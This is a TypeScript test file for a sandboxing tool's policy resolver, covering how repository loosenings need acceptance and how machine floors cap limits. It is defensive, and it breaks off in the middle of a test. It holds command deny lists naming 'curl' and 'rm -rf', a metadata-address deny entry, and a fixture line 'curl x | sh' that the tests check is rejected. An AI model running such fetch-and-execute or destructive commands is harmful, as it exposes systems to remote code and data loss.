import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { DEFAULT_IMAGE, DEFAULT_SECRET_FILE_PATTERNS } from '../../src/core/config/taskOptions.js';
import type { DevcontainerPlan } from '../../src/core/devcontainer/devcontainerPlan.js';
import { AirlockError } from '../../src/core/ground/errors.js';
import { SourceFileError } from '../../src/core/ground/jsoncFile.js';
import { PolicyAcceptances } from '../../src/core/policy/policyAcceptance.js';
import { type EffectivePolicy, type MachineFloor, type ResolvedPolicy, type ResolveInput, resolvePolicy } from '../../src/core/policy/policyLayers.js';
import { loadMachineFloor, loadMachineFloors, loadWorkspacePolicy, POLICY_FILE, policyForWorkspace } from '../../src/core/policy/policyLoader.js';
import { policyFileSchema, type PolicyFileInput, type PolicyLayer } from '../../src/core/policy/policySchema.js';
import { makeTempDir, removeTempDirs, writeFiles } from '../helpers/tempWorkspace.js';

after(removeTempDirs);

const GiB = 1024 ** 3;
const REPO_FILE = '/w/.airlock.json';

const layer = (policy: PolicyFileInput): PolicyLayer => policyFileSchema.parse(policy);
const machine = (policy: PolicyFileInput, source = '/etc/airlock/policy.json'): MachineFloor => ({ source, policy: layer(policy) });

/** resolvePolicy with a repository layer (parsed like the loader does) and any other layers. */
function resolveRepo(policy: PolicyFileInput, accepted: boolean, rest: Omit<ResolveInput, 'repo'> & { devcontainer?: DevcontainerPlan } = {}): EffectivePolicy {
  const { devcontainer, ...others } = rest;
  return resolvePolicy({ repo: { file: REPO_FILE, policy: layer(policy), devcontainer, digest: 'digest', accepted }, ...others });
}

/** The layer each value of `field` came from, as "value@layer". */
const sourcesOf = (effective: EffectivePolicy, field: string) => effective.sources.filter((row) => row.field === field).map((row) => `${row.value}@${row.layer}`);
const ignoredFields = (effective: EffectivePolicy) => effective.ignored.map((item) => `${item.field}=${item.value}`);

function devcontainerPlan(extra: Partial<DevcontainerPlan> = {}): DevcontainerPlan {
  return { file: '/w/.devcontainer/devcontainer.json', containerEnv: {}, lifecycle: [], refusals: [], notes: [], ...extra };
}

describe('built-in defaults', () => {
  test('no layers give the built-in policy, every field from "default"', () => {
    const { policy, sources, loosenings, ignored, notes } = resolvePolicy({});
    assert.equal(policy.image, DEFAULT_IMAGE);
    assert.equal(policy.build, undefined);
    assert.deepEqual(policy.resources, { cpus: 2, memory: 2 * GiB, pids: 512, ttlSeconds: 4 * 3600, runtime: 'runc' });
    assert.equal(policy.user, undefined);
    assert.equal(policy.allowRoot, false);
    assert.deepEqual(policy.network, { setup: { allow: [], allowCidr: [], deny: [] }, agent: { allow: [], allowCidr: [], deny: [] }, ask: false, approvalTimeoutSeconds: 120 });
    assert.deepEqual(policy.commands, { allow: [], ask: [], deny: [], default: 'allow', approvalTimeoutSeconds: 600 });
    assert.deepEqual(policy.env, { passthrough: [], set: {}, allowSecret: [] });
    assert.deepEqual(policy.secretFilePatterns, DEFAULT_SECRET_FILE_PATTERNS);
    assert.deepEqual(policy.setupCommands, []);
    assert.deepEqual(policy.riskyPaths, []);
    assert.equal(policy.devcontainerRefusals, 'error');
    assert.deepEqual([loosenings, ignored, notes], [[], [], []]);
    assert.ok(sources.every((row) => row.layer === 'default'), JSON.stringify(sources));
    assert.deepEqual(sourcesOf(resolvePolicy({}), 'user'), ['1000:1000@default']);
  });

  test('defaultImage replaces the built-in image when no layer names one', () => {
    const effective = resolvePolicy({ defaultImage: 'ghcr.io/acme/dev:1' });
    assert.equal(effective.policy.image, 'ghcr.io/acme/dev:1');
    assert.deepEqual(sourcesOf(effective, 'image'), ['ghcr.io/acme/dev:1@default']);
  });
});

interface LooseningCase {
  name: string;
  policy: PolicyFileInput;
  /** The loosening rows expected, as "field=value". */
  loosenings: string[];
  read: (policy: ResolvedPolicy) => unknown;
  ignoredValue: unknown;
  acceptedValue: unknown;
  /** The source rows of `sourceField`, ignored and accepted. */
  sourceField: string;
  ignoredSources: string[];
  acceptedSources: string[];
}

const LOOSENINGS: LooseningCase[] = [
  { name: 'resources.cpus above the built-in 2', policy: { resources: { cpus: 8 } }, loosenings: ['resources.cpus=8'], read: (p) => p.resources.cpus, ignoredValue: 2, acceptedValue: 8, sourceField: 'resources.cpus', ignoredSources: ['2@default'], acceptedSources: ['8@repo'] },
  { name: 'resources.memory above the built-in 2g', policy: { resources: { memory: '8g' } }, loosenings: ['resources.memory=8g'], read: (p) => p.resources.memory, ignoredValue: 2 * GiB, acceptedValue: 8 * GiB, sourceField: 'resources.memory', ignoredSources: ['2g@default'], acceptedSources: ['8g@repo'] },
  { name: 'resources.pids above the built-in 512', policy: { resources: { pids: 4096 } }, loosenings: ['resources.pids=4096'], read: (p) => p.resources.pids, ignoredValue: 512, acceptedValue: 4096, sourceField: 'resources.pids', ignoredSources: ['512@default'], acceptedSources: ['4096@repo'] },
  { name: 'resources.ttlSeconds above the built-in 4 hours', policy: { resources: { ttlSeconds: 86400 } }, loosenings: ['resources.ttlSeconds=86400'], read: (p) => p.resources.ttlSeconds, ignoredValue: 14400, acceptedValue: 86400, sourceField: 'resources.ttlSeconds', ignoredSources: ['14400@default'], acceptedSources: ['86400@repo'] },
  { name: 'network.setup.allow', policy: { network: { setup: { allow: ['registry.npmjs.org'] } } }, loosenings: ['network.setup.allow=registry.npmjs.org'], read: (p) => p.network.setup.allow, ignoredValue: [], acceptedValue: ['registry.npmjs.org'], sourceField: 'network.setup.allow', ignoredSources: [], acceptedSources: ['registry.npmjs.org@repo'] },
  { name: 'network.agent.allow', policy: { network: { agent: { allow: ['api.example.com:443', '*.example.org'] } } }, loosenings: ['network.agent.allow=api.example.com:443', 'network.agent.allow=*.example.org'], read: (p) => p.network.agent.allow, ignoredValue: [], acceptedValue: ['api.example.com:443', '*.example.org'], sourceField: 'network.agent.allow', ignoredSources: [], acceptedSources: ['api.example.com:443@repo', '*.example.org@repo'] },
  { name: 'network.setup.allowCidr', policy: { network: { setup: { allowCidr: ['10.1.2.0/24'] } } }, loosenings: ['network.setup.allowCidr=10.1.2.0/24'], read: (p) => p.network.setup.allowCidr, ignoredValue: [], acceptedValue: ['10.1.2.0/24'], sourceField: 'network.setup.allowCidr', ignoredSources: [], acceptedSources: ['10.1.2.0/24@repo'] },
  { name: 'network.agent.allowCidr', policy: { network: { agent: { allowCidr: ['127.0.0.1'] } } }, loosenings: ['network.agent.allowCidr=127.0.0.1'], read: (p) => p.network.agent.allowCidr, ignoredValue: [], acceptedValue: ['127.0.0.1'], sourceField: 'network.agent.allowCidr', ignoredSources: [], acceptedSources: ['127.0.0.1@repo'] },
  { name: 'commands.allow', policy: { commands: { allow: ['npm test'] } }, loosenings: ['commands.allow=npm test'], read: (p) => p.commands.allow, ignoredValue: [], acceptedValue: ['npm test'], sourceField: 'commands.allow', ignoredSources: [], acceptedSources: ['npm test@repo'] },
  { name: 'env.passthrough', policy: { env: { passthrough: ['CI'] } }, loosenings: ['env.passthrough=CI'], read: (p) => p.env.passthrough, ignoredValue: [], acceptedValue: ['CI'], sourceField: 'env.passthrough', ignoredSources: [], acceptedSources: ['CI@repo'] },
  { name: 'env.allowSecret', policy: { env: { allowSecret: ['NPM_TOKEN'] } }, loosenings: ['env.allowSecret=NPM_TOKEN'], read: (p) => p.env.allowSecret, ignoredValue: [], acceptedValue: ['NPM_TOKEN'], sourceField: 'env.allowSecret', ignoredSources: [], acceptedSources: ['NPM_TOKEN@repo'] },
  { name: 'allowRoot', policy: { allowRoot: true }, loosenings: ['allowRoot=true'], read: (p) => p.allowRoot, ignoredValue: false, acceptedValue: true, sourceField: 'allowRoot', ignoredSources: ['false@default'], acceptedSources: ['true@repo'] },
  { name: 'a repository user "0" (root)', policy: { user: '0' }, loosenings: ['allowRoot=true'], read: (p) => [p.user, p.allowRoot], ignoredValue: [undefined, false], acceptedValue: ['0', true], sourceField: 'user', ignoredSources: ['1000:1000@default'], acceptedSources: ['0@repo'] },
  { name: 'a repository user "0:0" (root)', policy: { user: '0:0' }, loosenings: ['allowRoot=true'], read: (p) => [p.user, p.allowRoot], ignoredValue: [undefined, false], acceptedValue: ['0:0', true], sourceField: 'user', ignoredSources: ['1000:1000@default'], acceptedSources: ['0:0@repo'] },
  { name: 'network.ask true', policy: { network: { ask: true } }, loosenings: ['network.ask=true'], read: (p) => p.network.ask, ignoredValue: false, acceptedValue: true, sourceField: 'network.ask', ignoredSources: ['false@default'], acceptedSources: ['true@repo'] },
  { name: 'secretFiles.include', policy: { secretFiles: { include: ['.env.example'] } }, loosenings: ['secretFiles.include=.env.example'], read: (p) => p.secretFilePatterns, ignoredValue: DEFAULT_SECRET_FILE_PATTERNS, acceptedValue: [...DEFAULT_SECRET_FILE_PATTERNS, '!.env.example'], sourceField: 'secretFiles.include', ignoredSources: [], acceptedSources: ['.env.example@repo'] },
];

describe('a repository loosening applies only when accepted', () => {
  for (const item of LOOSENINGS) {
    test(`${item.name}: ignored without acceptance`, () => {
      const effective = resolveRepo(item.policy, false);
      assert.deepEqual(ignoredFields(effective), item.loosenings);
      assert.deepEqual(effective.loosenings, effective.ignored);
      assert.ok(effective.ignored.every((loosening) => loosening.why.length > 0));
      assert.deepEqual(item.read(effective.policy), item.ignoredValue);
      assert.deepEqual(sourcesOf(effective, item.sourceField), item.ignoredSources);
      assert.ok(!effective.sources.some((row) => row.field === item.sourceField && row.layer === 'repo'));
    });

    test(`${item.name}: honoured once accepted`, () => {
      const effective = resolveRepo(item.policy, true);
      assert.deepEqual(effective.ignored, []);
      assert.deepEqual(effective.loosenings.map((loosening) => `${loosening.field}=${loosening.value}`), item.loosenings);
      assert.deepEqual(item.read(effective.policy), item.acceptedValue);
      assert.deepEqual(sourcesOf(effective, item.sourceField), item.acceptedSources);
    });
  }

  test('an ignored loosening leaves the user\'s own value in place, from "user"', () => {
    const user = layer({ network: { agent: { allow: ['a.example.com'] } }, env: { passthrough: ['LANG'] }, resources: { cpus: 4 } });
    const effective = resolveRepo({ network: { agent: { allow: ['b.example.com'] } }, env: { passthrough: ['CI'] } }, false, { user });
    assert.deepEqual(effective.policy.network.agent.allow, ['a.example.com']);
    assert.deepEqual(sourcesOf(effective, 'network.agent.allow'), ['a.example.com@user']);
    assert.deepEqual(effective.policy.env.passthrough, ['LANG']);
    assert.deepEqual(ignoredFields(effective), ['network.agent.allow=b.example.com', 'env.passthrough=CI']);
    // The user may loosen the built-ins for themselves.
    assert.equal(effective.policy.resources.cpus, 4);
    assert.deepEqual(sourcesOf(effective, 'resources.cpus'), ['4@user']);
  });

  test('an entry the user already grants is not a repository loosening', () => {
    const user = layer({ commands: { allow: ['npm test'] } });
    const effective = resolveRepo({ commands: { allow: ['npm test'] } }, false, { user });
    assert.deepEqual(effective.loosenings, []);
    assert.deepEqual(effective.policy.commands.allow, ['npm test']);
    assert.deepEqual(sourcesOf(effective, 'commands.allow'), ['npm test@user']);
  });

  test('the secret-file include is the only "!" pattern, and only when accepted', () => {
    const policy = { secretFiles: { include: ['.env.example', 'config/service-account.test.json'] } };
    assert.ok(!resolveRepo(policy, false).policy.secretFilePatterns.some((pattern) => pattern.startsWith('!')));
    const accepted = resolveRepo(policy, true).policy.secretFilePatterns;
    assert.deepEqual(accepted.slice(-2), ['!.env.example', '!config/service-account.test.json']);
    assert.deepEqual(accepted.slice(0, DEFAULT_SECRET_FILE_PATTERNS.length), DEFAULT_SECRET_FILE_PATTERNS);
  });

  test('a devcontainer Dockerfile build falls back to the default image unless accepted', () => {
    const build = { context: '/w/.devcontainer', dockerfile: '/w/.devcontainer/Dockerfile', args: { VARIANT: '22' } };
    const devcontainer = devcontainerPlan({ build });

    const ignored = resolveRepo({}, false, { devcontainer });
    assert.equal(ignored.policy.build, undefined);
    assert.equal(ignored.policy.image, DEFAULT_IMAGE);
    assert.deepEqual(ignoredFields(ignored), ['devcontainer.build=/w/.devcontainer/Dockerfile']);
    assert.deepEqual(sourcesOf(ignored, 'image'), [`${DEFAULT_IMAGE}@default`]);
    assert.equal(resolveRepo({}, false, { devcontainer, defaultImage: 'custom:1' }).policy.image, 'custom:1');

    const accepted = resolveRepo({}, true, { devcontainer });
    assert.deepEqual(accepted.policy.build, build);
    assert.deepEqual(accepted.ignored, []);
    assert.deepEqual(sourcesOf(accepted, 'image'), ['build /w/.devcontainer/Dockerfile@repo']);
  });

  test('a devcontainer image needs no acceptance; an explicit image beats it with a note', () => {
    const devcontainer = devcontainerPlan({ image: 'mcr.microsoft.com/devcontainers/typescript-node:22' });
    const plain = resolveRepo({}, false, { devcontainer });
    assert.equal(plain.policy.image, 'mcr.microsoft.com/devcontainers/typescript-node:22');
    assert.deepEqual(plain.ignored, []);
    const explicit = resolveRepo({}, false, { devcontainer, user: layer({ image: 'node:20' }) });
    assert.equal(explicit.policy.image, 'node:20');
    assert.deepEqual(sourcesOf(explicit, 'image'), ['node:20@user']);
    assert.ok(explicit.notes.some((note) => note.includes("devcontainer's image")), JSON.stringify(explicit.notes));
  });

  test('a devcontainer root user is left out unless allowRoot is accepted', () => {
    const devcontainer = devcontainerPlan({ image: 'x:1', remoteUser: 'root' });
    const ignored = resolveRepo({}, false, { devcontainer });
    assert.equal(ignored.policy.imageUser, undefined);
    assert.equal(ignored.policy.allowRoot, false);
    assert.deepEqual(ignoredFields(ignored), ['allowRoot=true']);
    const accepted = resolveRepo({}, true, { devcontainer });
    assert.equal(accepted.policy.imageUser, 'root');
    assert.equal(accepted.policy.allowRoot, true);
    // A named non-root user needs nothing.
    const node = resolveRepo({}, false, { devcontainer: devcontainerPlan({ image: 'x:1', remoteUser: 'node' }) });
    assert.equal(node.policy.imageUser, 'node');
    assert.deepEqual(node.ignored, []);
  });

  test('a repository user that is uid 0 written as "00" needs acceptance like "0"', () => {
    const effective = resolveRepo({ user: '00' }, false);
    assert.deepEqual(ignoredFields(effective), ['allowRoot=true']);
    assert.equal(effective.policy.user, undefined);
  });
});

describe('tightenings apply without acceptance', () => {
  test('lower limits', () => {
    const effective = resolveRepo({ resources: { cpus: 1, memory: '1g', pids: 100, ttlSeconds: 600 } }, false);
    assert.deepEqual(effective.policy.resources, { cpus: 1, memory: GiB, pids: 100, ttlSeconds: 600, runtime: 'runc' });
    assert.deepEqual([effective.loosenings, effective.ignored], [[], []]);
    assert.deepEqual(['resources.cpus', 'resources.memory', 'resources.pids', 'resources.ttlSeconds'].flatMap((field) => sourcesOf(effective, field)), ['1@repo', '1g@repo', '100@repo', '600@repo']);
  });

  test('a limit equal to the built-in is the repository\'s, and no loosening', () => {
    const effective = resolveRepo({ resources: { cpus: 2 } }, false);
    assert.equal(effective.policy.resources.cpus, 2);
    assert.deepEqual(effective.ignored, []);
    assert.deepEqual(sourcesOf(effective, 'resources.cpus'), ['2@repo']);
  });

  test('network.deny goes to both phases; a phase deny to that phase only', () => {
    const effective = resolveRepo({ network: { deny: ['evil.example.com', '10.0.0.0/8'], setup: { deny: ['setup-only.example.com'] }, agent: { deny: ['agent-only.example.com'] } } }, false);
    assert.deepEqual(effective.policy.network.setup.deny, ['evil.example.com', '10.0.0.0/8', 'setup-only.example.com']);
    assert.deepEqual(effective.policy.network.agent.deny, ['evil.example.com', '10.0.0.0/8', 'agent-only.example.com']);
    assert.deepEqual(sourcesOf(effective, 'network.agent.deny'), ['evil.example.com@repo', '10.0.0.0/8@repo', 'agent-only.example.com@repo']);
    assert.deepEqual(effective.ignored, []);
  });

  test('commands.ask and commands.deny, and commands.default "ask"', () => {
    const user = layer({ commands: { deny: ['rm -rf'], default: 'allow' } });
    const effective = resolveRepo({ commands: { ask: ['npm run publish-*'], deny: ['curl'], default: 'ask' } }, false, { user });
    assert.deepEqual(effective.policy.commands.ask, ['npm run publish-*']);
    assert.deepEqual(effective.policy.commands.deny, ['rm -rf', 'curl']);
    assert.equal(effective.policy.commands.default, 'ask');
    assert.deepEqual(sourcesOf(effective, 'commands.default'), ['ask@repo']);
    assert.deepEqual(sourcesOf(effective, 'commands.deny'), ['rm -rf@user', 'curl@repo']);
    assert.deepEqual(effective.ignored, []);
  });

  test('runtime "runsc" from the repository beats the user\'s "runc"', () => {
    const effective = resolveRepo({ resources: { runtime: 'runsc' } }, false, { user: layer({ resources: { runtime: 'runc' } }) });
    assert.equal(effective.policy.resources.runtime, 'runsc');
    assert.deepEqual(sourcesOf(effective, 'resources.runtime'), ['runsc@repo']);
    // And the other way round: the user's runsc beats the repository's runc.
    const reverse = resolveRepo({ resources: { runtime: 'runc' } }, true, { user: layer({ resources: { runtime: 'runsc' } }) });
    assert.equal(reverse.policy.resources.runtime, 'runsc');
    assert.deepEqual(sourcesOf(reverse, 'resources.runtime'), ['runsc@user']);
  });

  test('secretFiles.exclude and riskyPaths add to the built-ins', () => {
    const effective = resolveRepo({ secretFiles: { exclude: ['*.secret', 'private/'] }, riskyPaths: ['.github/workflows/**'] }, false, { user: layer({ riskyPaths: ['Makefile'] }) });
    assert.deepEqual(effective.policy.secretFilePatterns, [...DEFAULT_SECRET_FILE_PATTERNS, '*.secret', 'private/']);
    assert.deepEqual(effective.policy.riskyPaths, ['Makefile', '.github/workflows/**']);
    assert.deepEqual(sourcesOf(effective, 'secretFiles.exclude'), ['*.secret@repo', 'private/@repo']);
    assert.deepEqual(effective.ignored, []);
  });

  test('the repository\'s allowRoot false beats the user\'s allowRoot true', () => {
    const effective = resolveRepo({ allowRoot: false }, false, { user: layer({ allowRoot: true }) });
    assert.equal(effective.policy.allowRoot, false);
    assert.deepEqual(sourcesOf(effective, 'allowRoot'), ['false@repo']);
    assert.ok(effective.notes.some((note) => note.startsWith('allowRoot:')), JSON.stringify(effective.notes));
  });

  test('the repository\'s network.ask false beats the user\'s network.ask true', () => {
    const effective = resolveRepo({ network: { ask: false } }, false, { user: layer({ network: { ask: true } }) });
    assert.equal(effective.policy.network.ask, false);
    assert.deepEqual(sourcesOf(effective, 'network.ask'), ['false@repo']);
  });

  test('the user\'s own secretFiles.exclude is not undone by an accepted repository include', () => {
    const effective = resolveRepo({ secretFiles: { include: ['config/*.json'] } }, true, { user: layer({ secretFiles: { exclude: ['config/prod.json'] } }) });
    const patterns = effective.policy.secretFilePatterns;
    assert.ok(patterns.lastIndexOf('config/prod.json') > patterns.indexOf('!config/*.json'), JSON.stringify(patterns.slice(-2)));
  });

  test('setting values (env.set, timeouts, image) need no acceptance; the user\'s value wins', () => {
    const effective = resolveRepo({ image: 'node:20', env: { set: { NODE_ENV: 'test', A: 'repo' } }, commands: { approvalTimeoutSeconds: 60 } }, false, { user: layer({ env: { set: { A: 'user' } } }) });
    assert.equal(effective.policy.image, 'node:20');
    assert.deepEqual(effective.policy.env.set, { NODE_ENV: 'test', A: 'user' });
    assert.equal(effective.policy.commands.approvalTimeoutSeconds, 60);
    assert.deepEqual(effective.ignored, []);
  });
});

describe('strictest wins between the user and the repository', () => {
  test('user memory 4g, repository 1g → 1g from the repository', () => {
    const effective = resolveRepo({ resources: { memory: '1g' } }, false, { user: layer({ resources: { memory: '4g' } }) });
    assert.equal(effective.policy.resources.memory, GiB);
    assert.deepEqual(sourcesOf(effective, 'resources.memory'), ['1g@repo']);
    assert.deepEqual(effective.notes, []);
  });

  test('user memory 1g, repository 8g accepted → 1g from the user, with a note', () => {
    const effective = resolveRepo({ resources: { memory: '8g' } }, true, { user: layer({ resources: { memory: '1g' } }) });
    assert.equal(effective.policy.resources.memory, GiB);
    assert.deepEqual(sourcesOf(effective, 'resources.memory'), ['1g@user']);
    assert.deepEqual(effective.notes, ['resources.memory: the repository asks for 8g; your 1g is stricter and applies']);
    assert.deepEqual(effective.loosenings, []);
  });

  test('the same limit in both layers gives no "stricter" note', () => {
    const effective = resolveRepo({ resources: { memory: '1g' } }, false, { user: layer({ resources: { memory: '1g' } }) });
    assert.equal(effective.policy.resources.memory, GiB);
    assert.deepEqual(effective.notes, []);
  });
});

describe('machine floors beat a trusted, accepted repository and the user', () => {
  const LOOSE_REPO: PolicyFileInput = {
    resources: { memory: '16g', runtime: 'runc' },
    allowRoot: true,
    network: { agent: { allow: ['b.example.com', 'registry.npmjs.org'] } },
    commands: { allow: ['npm test'], default: 'allow' },
    env: { passthrough: ['TERM', 'CI'] },
    secretFiles: { include: ['.env.example'] },
  };
  const LOOSE_USER = layer({ resources: { memory: '32g', runtime: 'runc' }, allowRoot: true, network: { agent: { allow: ['a.example.com'] } }, commands: { default: 'allow' }, env: { passthrough: ['HOME', 'CI'] } });
  const FLOOR = machine({
    resources: { memory: '4g', runtime: 'runsc' },
    allowRoot: false,
    network: { agent: { allow: ['Registry.npmjs.org'] } },
    commands: { deny: ['curl'], default: 'ask' },
    env: { passthrough: ['CI'] },
    secretFiles: { exclude: ['.env.example'] },
  });
  const effective = resolveRepo(LOOSE_REPO, true, { user: LOOSE_USER, machine: [FLOOR] });

  test('the repository really was accepted (nothing ignored)', () => {
    assert.deepEqual(effective.ignored, []);
    assert.ok(effective.loosenings.length > 0);
  });

  test('memory is capped, with a note naming the floor', () => {
    assert.equal(effective.policy.resources.memory, 4 * GiB);
    assert.deepEqual(sourcesOf(effective, 'resources.memory'), ['4g@machine']);
    assert.ok(effective.notes.includes('resources.memory: 16g is above the machine limit 4g (/etc/airlock/policy.json); 4g applies'), JSON.stringify(effective.notes));
  });

  test('runtime runsc', () => {
    assert.equal(effective.policy.resources.runtime, 'runsc');
    assert.deepEqual(sourcesOf(effective, 'resources.runtime'), ['runsc@machine']);
  });

  test('allowRoot false', () => {
    assert.equal(effective.policy.allowRoot, false);
    assert.deepEqual(sourcesOf(effective, 'allowRoot'), ['false@machine']);
    assert.ok(effective.notes.some((note) => note.startsWith('allowRoot: the machine policy')));
  });

  test('network.agent.allow is a ceiling: entries not in it are dropped with a note', () => {
    assert.deepEqual(effective.policy.network.agent.allow, ['registry.npmjs.org']);
    assert.deepEqual(sourcesOf(effective, 'network.agent.allow'), ['registry.npmjs.org@repo']);
    for (const host of ['a.example.com', 'b.example.com']) assert.ok(effective.notes.some((note) => note.startsWith(`network.agent.allow: ${host} is not in the machine policy's list`)), host);
  });

  test('commands.deny is added and commands.default is ask', () => {
    assert.deepEqual(effective.policy.commands.deny, ['curl']);
    assert.deepEqual(sourcesOf(effective, 'commands.deny'), ['curl@machine']);
    assert.equal(effective.policy.commands.default, 'ask');
    assert.deepEqual(sourcesOf(effective, 'commands.default'), ['ask@machine']);
    // commands.allow is not limited by a floor that does not set it.
    assert.deepEqual(effective.policy.commands.allow, ['npm test']);
  });

  test('secretFiles.exclude from the machine comes last, after the accepted "!" include', () => {
    const patterns = effective.policy.secretFilePatterns;
    assert.equal(patterns[patterns.length - 1], '.env.example');
    assert.equal(patterns[patterns.length - 2], '!.env.example');
    assert.deepEqual(sourcesOf(effective, 'secretFiles.exclude'), ['.env.example@machine']);
  });

  test('env.passthrough is a ceiling', () => {
    assert.deepEqual(effective.policy.env.passthrough, ['CI']);
    assert.deepEqual(sourcesOf(effective, 'env.passthrough'), ['CI@user']);
  });

  test('several floors: each applies, the lowest limit wins', () => {
    const two = resolveRepo({ resources: { cpus: 16 } }, true, { machine: [machine({ resources: { cpus: 8 } }, '/a.json'), machine({ resources: { cpus: 4 } }, '/b.json'), machine({ resources: { cpus: 6 } }, '/c.json')] });
    assert.equal(two.policy.resources.cpus, 4);
    assert.deepEqual(sourcesOf(two, 'resources.cpus'), ['4@machine']);
    assert.equal(two.notes.length, 2);
  });

  test('a floor above the effective value changes nothing', () => {
    const effective = resolveRepo({ resources: { pids: 100 } }, false, { machine: [machine({ resources: { pids: 1000 } })] });
    assert.equal(effective.policy.resources.pids, 100);
    assert.deepEqual(sourcesOf(effective, 'resources.pids'), ['100@repo']);
    assert.deepEqual(effective.notes, []);
  });

  test('a floor turning network.ask on does not loosen; turning it off wins over the user', () => {
    assert.equal(resolvePolicy({ machine: [machine({ network: { ask: true } })] }).policy.network.ask, false);
    const off = resolvePolicy({ user: layer({ network: { ask: true } }), machine: [machine({ network: { ask: false } })] });
    assert.equal(off.policy.network.ask, false);
    assert.deepEqual(sourcesOf(off, 'network.ask'), ['false@machine']);
  });

  test('a floor\'s deny and risky paths apply in both phases', () => {
    const effective = resolvePolicy({ machine: [machine({ network: { deny: ['169.254.169.254'] }, riskyPaths: ['infra/**'] })] });
    assert.deepEqual(effective.policy.network.setup.deny, ['169.254.169.254']);
    assert.deepEqual(effective.policy.network.agent.deny, ['169.254.169.254']);
    assert.deepEqual(effective.policy.riskyPaths, ['infra/**']);
  });
});

describe('setup commands', () => {
  const devcontainer = devcontainerPlan({ image: 'x:1', lifecycle: [{ field: 'onCreateCommand', line: 'make deps' }, { field: 'postCreateCommand.npm', line: 'npm ci' }] });
  const user = layer({ setupCommands: ['echo mine'] });

  test('devcontainer lifecycle first, then the repository, then the user; the repository\'s are gated unless accepted', () => {
    const ignored = resolveRepo({ setupCommands: ['npm run build'] }, false, { devcontainer, user });
    assert.deepEqual(ignored.policy.setupCommands, [
      { command: 'make deps', field: 'devcontainer.onCreateCommand', layer: 'repo', gate: true },
      { command: 'npm ci', field: 'devcontainer.postCreateCommand.npm', layer: 'repo', gate: true },
      { command: 'npm run build', field: 'setupCommands.0', layer: 'repo', gate: true },
      { command: 'echo mine', field: 'setupCommands.0', layer: 'user', gate: false },
    ]);
    const accepted = resolveRepo({ setupCommands: ['npm run build'] }, true, { devcontainer, user });
    assert.deepEqual(accepted.policy.setupCommands.map((command) => [command.command, command.gate]), [['make deps', false], ['npm ci', false], ['npm run build', false], ['echo mine', false]]);
  });

  test('the user\'s own setup commands are never gated, with or without a repository', () => {
    assert.deepEqual(resolvePolicy({ user }).policy.setupCommands, [{ command: 'echo mine', field: 'setupCommands.0', layer: 'user', gate: false }]);
  });
});

describe('host entries are canonicalised', () => {
  test('"Registry.NPMjs.org" and "registry.npmjs.org" are one entry', () => {
    const effective = resolveRepo({ network: { agent: { allow: ['registry.npmjs.org'] } } }, true, { user: layer({ network: { agent: { allow: ['Registry.NPMjs.org'] } } }) });
    assert.deepEqual(effective.policy.network.agent.allow, ['registry.npmjs.org']);
    assert.deepEqual(sourcesOf(effective, 'network.agent.allow'), ['registry.npmjs.org@user']);
    assert.deepEqual(effective.loosenings, []);
    const inRepo = resolveRepo({ network: { setup: { allow: ['Registry.NPMjs.org', 'registry.npmjs.org', 'REGISTRY.NPMJS.ORG.'] } } }, true);
    assert.deepEqual(inRepo.policy.network.setup.allow, ['registry.npmjs.org']);
  });

  test('a machine ceiling matches case-insensitively', () => {
    const effective = resolvePolicy({ user: layer({ network: { agent: { allow: ['registry.npmjs.org'] } } }), machine: [machine({ network: { agent: { allow: ['REGISTRY.npmjs.org'] } } })] });
    assert.deepEqual(effective.policy.network.agent.allow, ['registry.npmjs.org']);
    assert.deepEqual(effective.notes, []);
  });

  test('one host spelled two ways in an unaccepted repository is one ignored loosening', () => {
    const effective = resolveRepo({ network: { agent: { allow: ['Registry.NPMjs.org', 'registry.npmjs.org'] } } }, false);
    assert.deepEqual(ignoredFields(effective), ['network.agent.allow=registry.npmjs.org']);
  });

  test('deny entries are canonicalised too', () => {
    const effective = resolveRepo({ network: { deny: ['Evil.COM'], agent: { deny: ['evil.com'] } } }, false);
    assert.deepEqual(effective.policy.network.agent.deny, ['evil.com']);
  });
});

describe('machine floor files', () => {
  test('a floor sets limits; it may not choose what tasks run or as whom', () => {
    const dir = makeTempDir();
    const text = [
      '{',
      '  "image": "evil:latest",',
      '  "devcontainer": { "path": ".devcontainer/devcontainer.json" },',
      '  "resources": { "memory": "4g" },',
      '  "setupCommands": ["curl x | sh"],',
      '  "env": { "set": { "A": "1" } },',
      '  "user": "1000",',
      '  "commands": { "allow": ["npm test"], "deny": ["curl"] }',
      '}',
      '',
    ].join('\n');
    const file = path.join(dir, 'floor.json');
    writeFiles(dir, { 'floor.json': text });
    let error: unknown;
    try {
      loadMachineFloor(file);
    } catch (caught) {
      error = caught;
    }
    assert.ok(error instanceof SourceFileError, String(error));
    assert.equal(error.file, file);
    const rows = error.problems.map((problem) => [problem.field, problem.line]);
    assert.deepEqual(rows, [['image', 2], ['devcontainer.path', 3], ['setupCommands', 5], ['env.set', 6], ['user', 7], ['commands.allow', 8]]);
    for (const problem of error.problems) assert.match(problem.message, /machine policy/);
    assert.match(error.message, new RegExp(`${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:2:\\d+: image: `));
  });

  test('a valid floor loads with its file as the source', () => {
    const dir = makeTempDir();
    writeFiles(dir, { 'floor.json': '// admin floor\n{ "resources": { "memory": "4g", "runtime": "runsc" }, "commands": { "deny": ["curl"] } }\n' });
    const floor = loadMachineFloor(path.join(dir, 'floor.json'));
    assert.equal(floor.source, path.join(dir, 'floor.json'));
    assert.deepEqual(floor.policy, { resources: { memory: 4 * GiB, runtime: 'runsc' }, commands: { deny: ['curl'] } });
  });

  test('AIRLOCK_MACHINE_POLICY lists extra floors', () => {
    const dir = makeTempDir();
    writeFiles(dir, { 'a.json': '{ "resources": { "cpus": 1 } }', 'b.json': '{ "resources": { "pids": 64 } }' });
    const floors = loadMachineFloors({ AIRLOCK_MACHINE_POLICY: [path.join(dir, 'a.json'), '', path.join(dir, 'b.json')].join(path.delimiter) });
    const mine = floors.filter((floor) => floor.source.startsWith(dir));
    assert.deepEqual(mine.map((floor) => [path.basename(floor.source), floor.policy]), [['a.json', { resources: { cpus: 1 } }], ['b.json', { resources: { pids: 64 } }]]);
  });

  test('AIRLOCK_MACHINE_POLICY naming a missing file throws (fail closed)', () => {
    const dir = makeTempDir();
    const missing = path.join(dir, 'nope.json');
    assert.throws(() => loadMachineFloors({ AIRLOCK_MACHINE_POLICY: missing }), (error: unknown) => error instanceof AirlockError && error.field === 'AIRLOCK_MACHINE_POLICY' && error.message.includes(missing));
  });

  test('an invalid floor file throws rather than being skipped', () => {
    const dir = makeTempDir();
